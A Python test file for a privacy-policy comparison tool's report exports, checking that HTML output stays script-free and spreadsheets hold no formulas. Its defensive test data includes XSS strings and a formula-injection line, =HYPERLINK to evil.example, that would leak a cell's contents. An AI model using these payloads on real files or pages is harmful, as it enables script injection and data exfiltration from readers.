"""Exports: the HTML report is self-contained and inert; spreadsheets never hold formulas.

A hostile policy (markup in its name, headings and clauses; formula-like lines) goes through
both exports: nothing may execute or become a formula, and the text must stay visible.
"""

from __future__ import annotations

import base64
import csv
import zipfile

import pytest
from _comparison_tables import HOSTILE_LINES, hostile_policy, make_report, two_policies
from hypothesis import given, settings
from hypothesis import strategies as st

from policylens.report.html import esc, render_html
from policylens.report.spreadsheet import (
    FORMULA_PREFIXES,
    TABLES,
    neutralise,
    write_csv,
    write_excel,
)

lxml_html = pytest.importorskip("lxml.html")
openpyxl = pytest.importorskip("openpyxl")

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def report():
    return make_report([*two_policies(), hostile_policy()])


@pytest.fixture(scope="module")
def page(report):
    return render_html(report)


@pytest.fixture(scope="module")
def workbook(report, tmp_path_factory):
    path = report.to_excel(tmp_path_factory.mktemp("xlsx") / "report.xlsx")
    return path


# ---------------------------------------------------------------------------- neutralise


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("plain", "plain"), ("a=1", "a=1"), ("", ""), (" =1", " =1"),
])
def test_neutralise(text, expected):
    assert neutralise(text) == expected


# ---------------------------------------------------------------------------- HTML


def test_html_has_no_active_content(page):
    doc = lxml_html.fromstring(page)
    assert doc.xpath("//script") == []
    assert doc.xpath("//iframe|//object|//embed|//form|//link") == []
    for element in doc.iter():
        for name in element.attrib:
            assert not name.lower().startswith("on"), (element.tag, name)
    # the only images are the embedded charts
    for img in doc.xpath("//img"):
        assert img.get("src").startswith("data:image/png;base64,")
        assert base64.b64decode(img.get("src").split(",", 1)[1])[:8] == b"\x89PNG\r\n\x1a\n"
    # self-contained: every link is an anchor inside the page
    hrefs = [a.get("href") for a in doc.xpath("//a[@href]")]
    assert hrefs and all(h.startswith("#") for h in hrefs)


def test_html_forbids_scripts_by_policy(page):
    doc = lxml_html.fromstring(page)
    csp = doc.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert csp and "default-src 'none'" in csp[0]


def test_html_shows_hostile_text_as_text(page):
    doc = lxml_html.fromstring(page)
    visible = doc.text_content()
    assert "<script>alert(1)</script>" in visible  # the clause, in the evidence section
    assert "<script>document.title='pwned'</script>" in visible  # the section heading
    assert "<img src=x onerror=\"document.title='pwned'\">" in visible  # the policy name
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"click me")' in visible
    assert "<script>" not in page.split("<body>", 1)[1].replace("&lt;script&gt;", "")


def test_html_every_marked_cell_links_to_its_evidence(report, page):
    doc = lxml_html.fromstring(page)
    links = doc.xpath("//table[contains(@class, 'matrix')]//td[@class='yes']/a")
    marked = sum(int(getattr(report, attr).to_numpy().sum())
                 for attr in ("rights", "transfers", "legal_bases", "laws", "destinations"))
    assert len(links) == marked > 0
    for link in links:
        target = doc.get_element_by_id(link.get("href")[1:])
        quotes = target.xpath(".//mark")
        assert quotes and all(q.text_content() for q in quotes)


def test_html_evidence_highlights_the_cited_span(page):
    doc = lxml_html.fromstring(page)
    marks = [m.text_content() for m in doc.xpath("//div[@class='ev']//mark")]
    assert "ask us to delete it" in marks
    assert "right to access your data <script>alert(1)</script>" in marks


def test_html_sections(page):
    doc = lxml_html.fromstring(page)
    ids = doc.xpath("//section/@id")
    assert ids == ["policies", "rights", "transfers", "legal_bases", "laws", "destinations",
                   "retention", "children", "coverage", "compliance", "evidence"]


def test_html_is_deterministic(report):
    assert render_html(report) == render_html(make_report([*two_policies(), hostile_policy()]))


def test_to_html_writes_the_file(report, tmp_path):
    path = report.to_html(tmp_path / "sub" / "report.html")
    assert path.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


# ---------------------------------------------------------------------------- Excel


def test_excel_has_one_sheet_per_table(workbook):
    wb = openpyxl.load_workbook(workbook)
    assert wb.sheetnames == [name for _, name in TABLES]


def test_excel_holds_no_formula(workbook):
    wb = openpyxl.load_workbook(workbook)
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(workbook) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_excel_keeps_hostile_text_visible_and_exact(workbook):
    wb = openpyxl.load_workbook(workbook)
    values = {cell.value for sheet in wb.worksheets for row in sheet.iter_rows() for cell in row}
    for line in ('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '=HYPERLINK("http://x")',
                 "=cmd data is kept for 30 days", "@SUM(1+1)", "-2; +1",
                 "<img src=x onerror=\"document.title='pwned'\">"):
        assert line in values, line


def test_excel_marks_formula_like_text_as_quoted(workbook):
    wb = openpyxl.load_workbook(workbook)
    formula_like = [cell for sheet in wb.worksheets for row in sheet.iter_rows() for cell in row
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES)]
    assert len(formula_like) >= 4
    assert all(cell.quotePrefix and cell.data_type == "s" for cell in formula_like)


def test_excel_matrices_are_booleans(workbook, report):
    sheet = openpyxl.load_workbook(workbook)["rights"]
    header = [c.value for c in sheet[1]]
    assert header[0] == "policy" and header[1:] == list(report.rights.columns)
    row = {c.value for c in sheet[2][1:]}
    assert row <= {True, False}


def test_excel_strips_characters_xml_cannot_hold(tmp_path):
    from _comparison_tables import Spec

    spec = Spec(id="ctl", lines=["Bad \x0b char \x01 here and the right to access."],
                findings=[("right", "access", "right to access", {})])
    report = make_report([spec])
    wb = openpyxl.load_workbook(write_excel(report, tmp_path / "ctl.xlsx"))
    assert "right to access" in {c.value for r in wb["findings"].iter_rows() for c in r}


# ---------------------------------------------------------------------------- CSV


def test_csv_neutralises_every_formula_like_cell(report, tmp_path):
    paths = write_csv(report, tmp_path / "csv")
    assert {p.name for p in paths} == {f"{name}.csv" for _, name in TABLES} | {"clauses.csv"}
    seen = set()
    for path in paths:
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS), (path.name, cell)
                    seen.add(cell)
    for line in HOSTILE_LINES[2:]:
        assert "'" + line in seen, line  # still visible, behind an apostrophe
    assert HOSTILE_LINES[0] in seen  # markup is harmless in CSV and kept as is


# ---------------------------------------------------------------------------- real pipeline


def test_hostile_file_through_the_pipeline(tmp_path):
    pytest.importorskip("policylens.classify", reason="the classifier (issue 6) is not in this tree")
    from policylens.report import compare

    name = "<img src=x onerror=alert(1)>"
    path = tmp_path / f"{name}.txt"
    path.write_text("Privacy Policy\n\n" + "\n".join(HOSTILE_LINES) + "\n\n"
                    "Your Rights\n\nYou have the right to access and delete your personal data "
                    "<script>alert(1)</script>.\n", encoding="utf-8")
    report = compare([path])
    page = report.to_html(tmp_path / "r.html").read_text(encoding="utf-8")
    doc = lxml_html.fromstring(page)
    assert doc.xpath("//script") == [] and not doc.xpath("//img[not(starts-with(@src, 'data:'))]")
    assert name in doc.text_content()
    wb = openpyxl.load_workbook(report.to_excel(tmp_path / "r.xlsx"))
    cells = [c for s in wb.worksheets for r in s.iter_rows() for c in r]
    assert not [c for c in cells if c.data_type == "f"]
    assert name in {c.value for c in cells}


# ---------------------------------------------------------------------------- properties

# printable text that often starts like a formula
texty = st.one_of(st.text(), st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES), st.text()))


@given(texty)
def test_neutralised_text_never_starts_like_a_formula(text):
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_PREFIXES)
    assert safe == text or safe == "'" + text


@given(texty)
def test_escaped_text_has_no_markup(text):
    out = esc(text)
    assert "<" not in out and ">" not in out and '"' not in out
    import html

    assert html.unescape(out) == text


@settings(max_examples=40, deadline=None)
@given(st.lists(texty, min_size=1, max_size=5))
def test_any_text_round_trips_through_excel_as_text(texts):
    import io

    from openpyxl import Workbook

    from policylens.report.spreadsheet import _ILLEGAL_XML, _set_cell

    wb = Workbook()
    for i, text in enumerate(texts, start=1):
        _set_cell(wb.active.cell(row=i, column=1), text)
    buffer = io.BytesIO()
    wb.save(buffer)
    back = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    for i, text in enumerate(texts, start=1):
        cell = back.cell(row=i, column=1)
        expected = _ILLEGAL_XML.sub("\ufffd", text)
        assert cell.data_type != "f"
        # openpyxl reads an empty string back as an empty cell
        assert (cell.value or "") == expected


def test_html_caps_quotes_per_cell():
    from _comparison_tables import Spec

    from policylens.report.html import MAX_QUOTES

    lines = [f"Line {i}: you may access your data." for i in range(MAX_QUOTES + 3)]
    spec = Spec(id="many", lines=lines,
                findings=[("right", "access", line, {}) for line in lines])
    doc = lxml_html.fromstring(render_html(make_report([spec])))
    cell = doc.get_element_by_id("ev-rights-0-0")
    assert len(cell.xpath(".//mark")) == MAX_QUOTES
    assert "and 3 more" in cell.text_content()
